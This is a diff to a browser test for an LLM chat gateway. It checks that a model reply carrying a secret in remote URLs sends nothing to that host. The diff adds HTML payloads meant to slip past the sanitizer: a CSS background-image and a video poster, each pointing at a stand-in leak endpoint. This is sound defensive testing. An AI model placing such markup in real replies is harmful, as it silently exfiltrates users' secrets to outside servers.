@@ -203,7 +203,12 @@ def test_a_replys_remote_image_sends_nothing_to_that_host(
     gateway: IrisgateServer, browser: Browser, fake_llm: FakeLLM, upstream: FakeHttpApi
 ) -> None:
     leak = f"{upstream.base_url}/leak?q={SECRET}"
-    fake_llm.reply_text = f"Here you go: ![x]({leak}) and ![local](/ui/static/none.png)"
+    fake_llm.reply_text = (
+        f"Here you go: ![x]({leak}) and ![local](/ui/static/none.png)\n\n"
+        # HTML that markdown passes and the sanitizer keeps: fetches by CSS and media
+        f"<span style=\"background-image: url('{leak}&via=style')\">styled</span> "
+        f'<video poster="{leak}&via=poster"></video>'
+    )
     context = context_as(browser, USER)
     context.add_init_script(WATCH_VIOLATIONS)
     page = context.new_page()
@@ -236,7 +241,8 @@ def test_a_replys_remote_image_sends_nothing_to_that_host(
         violations: list[str] = page.evaluate("window.__violations")
     finally:
         context.close()
-    assert violations == [f"img-src {leak}"]
+    assert f"img-src {leak}" in violations
+    assert all(v.startswith(f"img-src {upstream.base_url}/leak") for v in violations), violations
     assert not [u for u in answered if u.startswith(upstream.base_url)]
     assert len(upstream.requests) == count  # the other host never heard of the secret
 
